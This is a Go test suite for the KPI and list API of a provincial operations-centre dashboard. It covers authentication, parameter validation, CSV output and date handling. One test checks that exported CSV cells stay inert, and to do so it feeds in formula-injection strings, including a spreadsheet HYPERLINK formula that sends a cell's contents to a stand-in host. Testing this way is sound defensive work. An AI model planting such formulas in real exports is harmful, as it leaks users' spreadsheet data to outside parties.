package iocapi_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"go.uber.org/zap"

	"github.com/iochub/iochub/kpis"
	"github.com/iochub/iochub/pkg/area"
	"github.com/iochub/iochub/pkg/httpedge"
	"github.com/iochub/iochub/pkg/kpi"
	"github.com/iochub/iochub/services/iocapi"
)

// fakeKPIs checks requests like the real engine and answers a fixed series,
// recording what it was asked.
type fakeKPIs struct {
	engine *kpi.Engine
	last   kpi.Request
	keys   []string // breakdown keys; default one area

	lastList kpi.ListRequest
	listErr  error // List's answer, when set
}

func (f *fakeKPIs) Check(r kpi.Request) (*kpi.Def, error) { return f.engine.Check(r) }
func (f *fakeKPIs) Run(_ context.Context, r kpi.Request) (*kpi.Def, *kpi.Result, error) {
	d, err := f.engine.Check(r)
	if err != nil {
		return nil, nil, err
	}
	f.last = r
	v := 1234.5
	res := &kpi.Result{Total: &v}
	for _, b := range kpi.Buckets(r.From, r.To, r.Granularity, vn) {
		res.Series = append(res.Series, kpi.Point{T: b, Value: &v})
	}
	if r.By != "" {
		res.Breakdown = []kpi.Part{{Key: "27256", Value: &v}}
		for _, k := range f.keys {
			res.Breakdown = append(res.Breakdown, kpi.Part{Key: k, Value: &v})
		}
	}
	return d, res, nil
}
func (f *fakeKPIs) List(ctx context.Context, l *kpi.List, r kpi.ListRequest) (*kpi.ListPage, error) {
	f.lastList = r
	if f.listErr != nil {
		return nil, f.listErr
	}
	return &kpi.ListPage{Rows: []map[string]any{}}, l.Check(&r)
}

func (f *fakeKPIs) Freshness(context.Context, *kpi.Def) (kpi.Freshness, error) {
	return kpi.Freshness{}, nil
}

var vn, _ = time.LoadLocation("Asia/Ho_Chi_Minh")

const (
	leaderToken = "leader-token"
	healthToken = "health-token"
)

func newServer(t *testing.T) (*httptest.Server, *fakeKPIs) {
	t.Helper()
	cat, err := kpi.Load(kpis.FS)
	if err != nil {
		t.Fatal(err)
	}
	areas, err := area.Load("../../deploy/areas/bac-ninh.csv")
	if err != nil {
		t.Fatal(err)
	}
	cfg := iocapi.Config{Readers: []iocapi.Reader{
		{Name: "lanh-dao", TokenSHA256: httpedge.HashToken(leaderToken), Role: "leader"},
		{Name: "so-y-te", TokenSHA256: httpedge.HashToken(healthToken), Role: "health"},
	}}
	if err := cfg.Validate(); err != nil {
		t.Fatal(err)
	}
	f := &fakeKPIs{engine: &kpi.Engine{Catalog: cat}}
	api, err := iocapi.New(cfg, cat, f, areas, zap.NewNop())
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	api.Register(mux)
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv, f
}

func get(t *testing.T, srv *httptest.Server, path, token string) (int, string, http.Header) {
	t.Helper()
	req, _ := http.NewRequest("GET", srv.URL+path, nil)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res.StatusCode, string(b), res.Header
}

// TestBadParametersAndTokens: each bad request gets its status and a detail
// naming what is wrong.
func TestBadParametersAndTokens(t *testing.T) {
	srv, _ := newServer(t)
	const ok = "/v1/kpis/health.visits?from=2026-11-01&to=2026-11-08&granularity=day"
	for _, c := range []struct {
		name, path, token string
		status            int
		detail            string
	}{
		{"no token", ok, "", 401, "Bearer"},
		{"wrong token", ok, "nope", 401, "not a reader token"},
		{"another sector's KPI", "/v1/kpis/traffic.incidents", healthToken, 403, "may not read traffic"},
		{"unknown KPI", "/v1/kpis/health.nope", leaderToken, 400, `no KPI is called "health.nope"`},
		{"from after to", "/v1/kpis/health.visits?from=2026-11-08&to=2026-11-01", leaderToken, 400, "from (2026-11-08T00:00:00+07:00) must be before to"},
		{"unknown area", ok + "&area=99999", leaderToken, 400, `unknown area "99999"`},
		{"granularity not allowed", "/v1/kpis/education.schools_not_reported?granularity=hour", leaderToken, 400, `granularity "hour": education.schools_not_reported allows day`},
		{"unknown granularity", ok + "x", leaderToken, 400, `granularity "dayx"`},
		{"range too long", "/v1/kpis/health.visits?from=2026-01-01&to=2026-03-01&granularity=hour", leaderToken, 400, "longer than the 31 days allowed at granularity hour"},
		{"bad time", "/v1/kpis/health.visits?from=yesterday", leaderToken, 400, `from: "yesterday" is neither a date`},
		{"dimension not allowed", ok + "&category=x", leaderToken, 400, `cannot be filtered by "category"`},
		{"unknown parameter", ok + "&colour=red", leaderToken, 400, `unknown parameter "colour"`},
		{"bad breakdown", ok + "&by=school", leaderToken, 400, "by=school"},
		{"bad format", ok + "&format=xml", leaderToken, 400, `format "xml"`},
		{"catalogue without token", "/v1/kpis", "", 401, "Bearer"},
		{"areas without token", "/v1/areas", "", 401, "Bearer"},
	} {
		t.Run(c.name, func(t *testing.T) {
			status, body, h := get(t, srv, c.path, c.token)
			if status != c.status {
				t.Fatalf("status %d, want %d: %s", status, c.status, body)
			}
			var doc struct{ Title, Detail string }
			if err := json.Unmarshal([]byte(body), &doc); err != nil || !strings.Contains(doc.Title+": "+doc.Detail, c.detail) {
				t.Errorf("body %s does not say %q", body, c.detail)
			}
			if ct := h.Get("Content-Type"); ct != "application/problem+json" {
				t.Errorf("Content-Type %q", ct)
			}
		})
	}
}

func TestCatalogueAreasAndCSV(t *testing.T) {
	srv, f := newServer(t)
	status, body, _ := get(t, srv, "/v1/kpis", healthToken)
	var cat struct {
		KPIs []struct {
			Name   string
			Sector string
			Title  kpi.Text
		}
	}
	if status != 200 || json.Unmarshal([]byte(body), &cat) != nil || len(cat.KPIs) == 0 {
		t.Fatalf("catalogue: %d %s", status, body)
	}
	for _, k := range cat.KPIs {
		if k.Sector != "health" || k.Title.VI == "" || k.Title.EN == "" {
			t.Errorf("health reader sees %+v", k)
		}
	}
	status, body, _ = get(t, srv, "/v1/kpis", leaderToken)
	if status != 200 || !strings.Contains(body, "traffic.incidents") || !strings.Contains(body, "health.visits") {
		t.Errorf("leader catalogue: %d %s", status, body)
	}
	status, body, _ = get(t, srv, "/v1/areas", healthToken)
	if status != 200 || !strings.Contains(body, `"code":"27261","name_vi":"Thành phố Từ Sơn","level":"district","parent":"27"`) {
		t.Errorf("areas: %d %s", status, body)
	}
	// area=27 (the province) covers its nine units; the answer echoes 27.
	status, body, _ = get(t, srv, "/v1/kpis/health.visits?from=2026-11-01&to=2026-11-03&area=27&by=area", healthToken)
	if status != 200 || len(f.last.Filters["area"]) != 9 || !strings.Contains(body, `"area":["27"]`) || !strings.Contains(body, `"unit":{"vi":"lượt","en":"visits"}`) {
		t.Errorf("json: %d %s; filters %v", status, body, f.last.Filters)
	}
	status, body, h := get(t, srv, "/v1/kpis/health.visits?from=2026-11-01&to=2026-11-03&format=csv&by=area", healthToken)
	want := "part,key,value\nseries,2026-11-01T00:00:00+07:00,1234.5\nseries,2026-11-02T00:00:00+07:00,1234.5\ntotal,,1234.5\nbreakdown,27256,1234.5\n"
	if status != 200 || body != want || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
		t.Errorf("csv: %d %q, want %q", status, body, want)
	}
}

func TestDashboardIsServedFromTheBinary(t *testing.T) {
	srv, _ := newServer(t)
	for _, p := range []string{"/", "/app.js", "/app.css"} {
		status, body, _ := get(t, srv, p, "")
		if status != 200 || len(body) < 100 {
			t.Errorf("%s: %d (%d bytes)", p, status, len(body))
		}
		body = strings.ReplaceAll(body, "http://www.w3.org/2000/svg", "") // a namespace name, not an address
		if strings.Contains(body, "http://") || strings.Contains(body, "https://") {
			t.Errorf("%s refers to an outside address: no CDN in a closed data centre", p)
		}
	}
}

// TestBadParameterIsNamed: a 400 for a parameter names it in the problem's
// "parameter" member, for a client to point at the field.
func TestBadParameterIsNamed(t *testing.T) {
	srv, _ := newServer(t)
	const ok = "/v1/kpis/health.visits?from=2026-11-01&to=2026-11-08&granularity=day"
	for _, c := range []struct{ path, param string }{
		{"/v1/kpis/health.visits?from=2026-11-08&to=2026-11-01", "from"},
		{ok + "&area=99999", "area"},
		{"/v1/kpis/education.schools_not_reported?granularity=hour", "granularity"},
		{ok + "&category=x", "category"},
		{ok + "&colour=red", "colour"},
		{ok + "&by=school", "by"},
		{ok + "&format=xml", "format"},
	} {
		status, body, _ := get(t, srv, c.path, leaderToken)
		var doc struct{ Parameter string }
		if err := json.Unmarshal([]byte(body), &doc); status != 400 || err != nil || doc.Parameter != c.param {
			t.Errorf("%s: %d %s; want 400 naming parameter %q", c.path, status, body, c.param)
		}
	}
}

// TestCSVCellsAreNeverFormulas (finding L1): a breakdown key that a
// spreadsheet would run as a formula is written inert.
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	srv, f := newServer(t)
	f.keys = []string{`=HYPERLINK("http://x.example/?leak="&A1,"bấm vào")`, "+1+1", "-2+3", "@SUM(A1)", "Sở Y tế"}
	status, body, _ := get(t, srv, "/v1/kpis/health.visits?from=2026-11-01&to=2026-11-03&format=csv&by=area", leaderToken)
	if status != 200 {
		t.Fatalf("%d: %s", status, body)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, r := range rows {
		if r[0] != "breakdown" {
			continue
		}
		seen++
		if strings.ContainsAny(r[1][:1], "=+-@") {
			t.Errorf("breakdown key %q would run as a formula", r[1])
		}
	}
	if seen != 6 || !strings.Contains(body, "Sở Y tế") || !strings.Contains(body, "'=HYPERLINK") {
		t.Fatalf("csv:\n%s", body)
	}
}

// TestDefaultPeriodIsSevenCalendarDays: without from, a KPI request covers
// the calendar day of to and the six before it in the province's time
// zone, as the dashboard's "7 ngày qua"; never to minus 7×24 hours.
func TestDefaultPeriodIsSevenCalendarDays(t *testing.T) {
	srv, f := newServer(t)
	for _, c := range []struct{ to, from string }{
		{"2026-11-05T10:00:00%2B07:00", "2026-10-30T00:00:00+07:00"},
		{"2026-11-05T02:00:00Z", "2026-10-30T00:00:00+07:00"}, // 09:00 in Hà Nội
		{"2026-11-04T20:00:00Z", "2026-10-30T00:00:00+07:00"}, // 03:00 on the 5th in Hà Nội
		{"2026-11-05", "2026-10-29T00:00:00+07:00"},           // midnight ends the 4th
	} {
		if code, body, _ := get(t, srv, "/v1/kpis/publicservice.dossiers_received?to="+c.to, leaderToken); code != 200 {
			t.Fatalf("to=%s: %d %s", c.to, code, body)
		}
		if got := f.last.From.In(vn).Format(time.RFC3339); got != c.from {
			t.Errorf("to=%s: from %s, want %s", c.to, got, c.from)
		}
	}
	before := time.Now()
	if code, body, _ := get(t, srv, "/v1/kpis/publicservice.dossiers_received", leaderToken); code != 200 {
		t.Fatalf("%d %s", code, body)
	}
	after := time.Now()
	if want, want2 := iocapi.DefaultFrom(before, vn), iocapi.DefaultFrom(after, vn); !f.last.From.Equal(want) && !f.last.From.Equal(want2) {
		t.Errorf("no from, no to: from %s, want %s", f.last.From, want)
	}
	if f.last.From.In(vn).Hour() != 0 || f.last.To.Sub(f.last.From) < 6*24*time.Hour || f.last.To.Sub(f.last.From) > 7*24*time.Hour {
		t.Errorf("the default period %s – %s is not 7 calendar days", f.last.From, f.last.To)
	}
}

func TestPreviousPeriodAndChange(t *testing.T) {
	at := func(s string) time.Time { v, _ := time.ParseInLocation("2006-01-02 15:04", s, vn); return v }
	for _, c := range []struct{ from, to, pf, pt string }{
		{"2026-11-04 00:00", "2026-11-05 00:00", "2026-11-03 00:00", "2026-11-04 00:00"},
		{"2026-11-29 00:00", "2026-12-03 10:30", "2026-11-24 00:00", "2026-11-28 10:30"}, // 7 days until now: the week before, until the same hour
		{"2026-12-03 00:00", "2026-12-03 10:30", "2026-12-02 00:00", "2026-12-02 10:30"},
	} {
		f, tt := iocapi.PreviousPeriod(at(c.from), at(c.to), vn)
		if !f.Equal(at(c.pf)) || !tt.Equal(at(c.pt)) {
			t.Errorf("%s – %s: previous %s – %s, want %s – %s", c.from, c.to, f, tt, c.pf, c.pt)
		}
	}
	srv, f := newServer(t)
	code, body, _ := get(t, srv, "/v1/kpis/publicservice.dossiers_received?from=2026-11-04&to=2026-11-05&compare=previous", leaderToken)
	var r iocapi.KPIResponse
	if err := json.Unmarshal([]byte(body), &r); code != 200 || err != nil || r.Previous == nil {
		t.Fatalf("%d %s", code, body)
	}
	if r.Previous.Change == nil || *r.Previous.Change != 0 || r.Previous.ChangeKind != "percent" || !f.last.From.Equal(at("2026-11-03 00:00")) {
		t.Errorf("previous %+v, asked %s", r.Previous, f.last.From)
	}
	code, body, _ = get(t, srv, "/v1/kpis/publicservice.on_time_rate?compare=previous", leaderToken)
	if err := json.Unmarshal([]byte(body), &r); code != 200 || err != nil || r.Previous.ChangeKind != "points" || r.TargetState != "met" {
		t.Errorf("on-time rate (the fake answers 1234.5 for all): %d %s", code, body)
	}
	if code, body, _ := get(t, srv, "/v1/kpis/publicservice.on_time_rate?compare=last-year", leaderToken); code != 400 || !strings.Contains(body, `compare \"last-year\"`) {
		t.Errorf("compare=last-year: %d %s", code, body)
	}
}

// TestListRequestsAreBounded: each bad or unbounded list request is a 400
// naming the parameter (or a 404 for an unknown list); an export over the
// rows it may give is a 400 that says to narrow it.
func TestListRequestsAreBounded(t *testing.T) {
	srv, f := newServer(t)
	base := "/v1/lists/overdue_dossiers"
	for _, c := range []struct {
		path, param string
		status      int
		detail      string
	}{
		{"/v1/lists/nope", "", 404, `no list is called "nope"`},
		{base + "?from=2024-01-01&to=2026-11-05", "from", 400, "longer than the 367 days"},
		{base + "?from=2026-11-05&to=2026-11-01", "from", 400, "must be before"},
		{base + "?page=0", "page", 400, "pages count from 1"},
		{base + "?page=10001", "page", 400, "pages count from 1 to 10000"},
		{base + "?size=1001", "size", 400, "1 to 1000"},
		{base + "?size=x", "size", 400, `size "x"`},
		{base + "?order=up", "order", 400, `order "up"`},
		{base + "?sort=applicant_name", "sort", 400, `sort "applicant_name"`},
		{base + "?category=x", "category", 400, `unknown parameter "category"`},
		{base + "?area=99999", "area", 400, `unknown area "99999"`},
		{base + "?format=xlsx", "format", 400, `format "xlsx"`},
	} {
		code, body, _ := get(t, srv, c.path, leaderToken)
		var p struct{ Parameter, Detail string }
		_ = json.Unmarshal([]byte(body), &p)
		if code != c.status || p.Parameter != c.param || !strings.Contains(p.Detail, c.detail) {
			t.Errorf("%s: %d %s, want %d naming %q with %q", c.path, code, body, c.status, c.param, c.detail)
		}
	}
	f.listErr = fmt.Errorf("list overdue_dossiers: 250000 rows, more than the 100000 an export gives: %w", kpi.ErrTooManyRows)
	if code, body, _ := get(t, srv, base+"?format=csv", leaderToken); code != 400 || !strings.Contains(body, "narrow the period or the area") {
		t.Errorf("an export over the bound: %d %s", code, body)
	}
}
